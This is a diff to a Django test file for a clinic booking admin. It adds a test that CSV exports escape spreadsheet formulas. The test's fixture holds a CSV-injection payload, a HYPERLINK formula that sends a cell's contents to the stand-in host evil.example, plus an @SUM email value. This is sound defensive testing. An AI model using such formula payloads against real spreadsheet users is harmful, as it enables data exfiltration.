@@ -1,11 +1,15 @@
 """The front desk in the admin: groups, intake permission and its access log, actions, CSV."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.auth.models import Group, User
 from django.urls import reverse
 from django.utils import timezone
 
 from scheduling.models import Booking, IntakeAccess
+from scheduling.services.booking import Patient
 from tests.scheduling.conftest import book, first_slot
 
 pytestmark = pytest.mark.django_db
@@ -79,9 +83,9 @@ def test_search_filters_schedule_and_csv_of_a_day(client, booking):
     assert b"Pat Example" in schedule.content
     week = client.get(reverse("admin:scheduling_booking_schedule"), {"date": day, "view": "week"})
     assert b"Pat Example" in week.content
-    csv = client.get(reverse("admin:scheduling_booking_export_day"), {"date": day})
-    text = csv.content.decode()
-    assert csv["Content-Type"].startswith("text/csv")
+    export = client.get(reverse("admin:scheduling_booking_export_day"), {"date": day})
+    text = export.content.decode()
+    assert export["Content-Type"].startswith("text/csv")
     assert "Pat Example" in text and "Sore back" not in text
 
 
@@ -135,3 +139,25 @@ def test_clinicians_may_filter_on_the_intake(client, booking):
     client.force_login(staff("clin", "Clinicians"))
     url = reverse("admin:scheduling_booking_changelist")
     assert b"Pat Example" in client.get(url, {"intake__reason__icontains": "sore"}).content
+
+
+def test_csv_exports_keep_typed_formulas_as_text(client, service, therapist):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    patient = Patient(name=formula, email="@SUM(1+1)@example.com", phone="+1 541 555 0100")
+    booking = book(service, therapist, first_slot(service, therapist).start, patient=patient)
+    client.force_login(staff("desk", "Front desk"))
+    day = timezone.localtime(booking.start).date().isoformat()
+    exports = [
+        client.get(reverse("admin:scheduling_booking_export_day"), {"date": day}),
+        client.post(
+            reverse("admin:scheduling_booking_changelist"),
+            {"action": "export_csv", "_selected_action": [booking.pk]},
+        ),
+    ]
+    for export in exports:
+        rows = list(csv.DictReader(io.StringIO(export.content.decode())))
+        assert rows[0]["Patient"] == "'" + formula
+        assert rows[0]["Email"] == "'@SUM(1+1)@example.com"
+        assert rows[0]["Phone"] == "'+1 541 555 0100"
+        cells = [cell for row in rows for cell in row.values()]
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
